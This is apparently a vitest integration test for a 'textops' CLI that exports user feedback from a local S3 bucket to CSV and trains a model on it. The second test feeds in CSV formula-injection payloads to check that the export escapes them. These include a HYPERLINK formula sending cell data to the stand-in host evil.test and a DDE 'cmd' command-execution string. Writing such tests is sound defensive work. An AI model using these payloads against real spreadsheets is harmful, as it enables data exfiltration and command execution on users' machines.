import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { S3Client } from '@aws-sdk/client-s3';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LOCAL_CREDENTIALS, type LocalS3, startLocalS3 } from '../../local/local-s3.ts';
import { S3ObjectStore } from '../../shared/aws/s3-object-store.ts';
import { feedbackId, putFeedback } from '../../shared/feedback/feedback-store.ts';
import { spreadsheetSafe } from '../../shared/spreadsheet-safe.ts';
import { runTextops } from '../helpers/cli.ts';
import { sharedRows } from '../helpers/data.ts';

/**
 * `textops feedback export` against a real bucket (the local S3 server, reached as any S3 endpoint), and the CSV
 * it writes trained on by `textops train`: the loop from serving back to training, through the built CLI.
 */

const BUCKET = 'textops-feedback-cli';
let s3: LocalS3;
let dir: string;
let client: S3Client;
let env: Record<string, string>;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'textops-feedback-cli-'));
  s3 = await startLocalS3({ directory: join(dir, 's3'), bucket: BUCKET });
  client = new S3Client({
    region: 'us-east-1',
    endpoint: s3.url,
    forcePathStyle: true,
    credentials: LOCAL_CREDENTIALS,
  });
  env = {
    AWS_REGION: 'us-east-1',
    AWS_ENDPOINT_URL_S3: s3.url,
    AWS_ACCESS_KEY_ID: LOCAL_CREDENTIALS.accessKeyId,
    AWS_SECRET_ACCESS_KEY: LOCAL_CREDENTIALS.secretAccessKey,
    TEXTOPS_BUCKET: BUCKET,
  };
});

afterAll(async () => {
  client?.destroy();
  await s3?.close();
  await rm(dir, { recursive: true, force: true });
});

describe('textops feedback export', () => {
  it('writes the stored feedback as a CSV that textops train trains on', async () => {
    const store = new S3ObjectStore(client, BUCKET);
    const rows = sharedRows('imdb-train.csv.gz').slice(1, 401);
    for (let i = 0; i < rows.length; i += 20) {
      await Promise.all(
        rows.slice(i, i + 20).map(([text, label], j) =>
          putFeedback(store, 'sentiment', {
            id: feedbackId(text.trim(), label),
            text: text.trim(),
            label,
            predicted: label,
            modelVersion: '1',
            requestId: null,
            receivedAt: new Date(Date.UTC(2026, 11, 1, 0, 0, i + j)).toISOString(),
          }),
        ),
      );
    }
    const out = join(dir, 'feedback.csv');
    const exported = await runTextops(['feedback', 'export', '--out', out], { env });
    expect(exported.stderr).toBe('');
    expect(exported.code).toBe(0);
    expect(exported.stdout).toMatch(
      /^400 examples from 400 feedback items of sentiment in s3:\/\/textops-feedback-cli →/,
    );
    const parsed = parse(await readFile(out, 'utf8')) as string[][];
    expect(parsed[0]).toEqual(['text', 'label']);
    expect(new Set(parsed.slice(1).map((r) => r.join('\u0000')))).toEqual(
      new Set(rows.map(([text, label]) => `${spreadsheetSafe(text.trim())}\u0000${label}`)),
    );

    const trained = await runTextops(['train', out, '--no-tune', '--out', join(dir, 'model'), '--json'], {
      env,
      timeoutMs: 300_000,
    });
    expect(trained.code, trained.stderr).toBe(0);
    const result = JSON.parse(trained.stdout) as { metrics: { accuracy: number } };
    expect(result.metrics.accuracy).toBeGreaterThan(0.6);
    const artifact = JSON.parse(await readFile(join(dir, 'model', 'model.json'), 'utf8')) as {
      lineage: { dataReport: { rowsKept: number; textColumn: string; labelColumn: string } };
    };
    expect(artifact.lineage.dataReport).toMatchObject({
      rowsKept: 400,
      textColumn: 'text',
      labelColumn: 'label',
    });

    // To stdout, with the summary on stderr: pipes into a file or another command.
    const piped = await runTextops(['feedback', 'export'], { env });
    expect(piped.code).toBe(0);
    expect(piped.stdout).toBe(await readFile(out, 'utf8'));
    expect(piped.stderr).toMatch(/^400 examples/);
  });

  it('writes no cell a spreadsheet would run as a formula; --raw keeps the texts as sent', async () => {
    const store = new S3ObjectStore(client, BUCKET);
    const hostile = [
      '=HYPERLINK("http://evil.test/?"&A1,"click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1,1)',
      '\t=1+1',
      '\r=1+1',
      '-3',
      'a plain review',
    ];
    await Promise.all(
      hostile.map((text, i) =>
        putFeedback(store, 'formulas', {
          id: feedbackId(text, 'neg'),
          text,
          label: i === 0 ? '=label' : 'neg',
          predicted: 'neg',
          modelVersion: '1',
          requestId: null,
          receivedAt: new Date(Date.UTC(2026, 11, 1, 0, 0, i)).toISOString(),
        }),
      ),
    );
    const safe = await runTextops(['feedback', 'export', '--model', 'formulas'], { env });
    expect(safe.code, safe.stderr).toBe(0);
    const cells = new Map((parse(safe.stdout) as string[][]).slice(1).map(([t, l]) => [t, l]));
    expect([...cells.keys()].sort()).toEqual(
      [
        '\'=HYPERLINK("http://evil.test/?"&A1,"click")',
        "'+1+cmd|' /C calc'!A0",
        "'-2+3",
        "'@SUM(1,1)",
        "'\t=1+1",
        "'\r=1+1",
        '-3',
        'a plain review',
      ].sort(),
    );
    expect(cells.get('\'=HYPERLINK("http://evil.test/?"&A1,"click")')).toBe("'=label");
    const raw = await runTextops(['feedback', 'export', '--model', 'formulas', '--raw'], { env });
    expect(raw.code, raw.stderr).toBe(0);
    expect(
      (parse(raw.stdout) as string[][])
        .slice(1)
        .map(([t]) => t)
        .sort(),
    ).toEqual([...hostile].sort());
  });
});
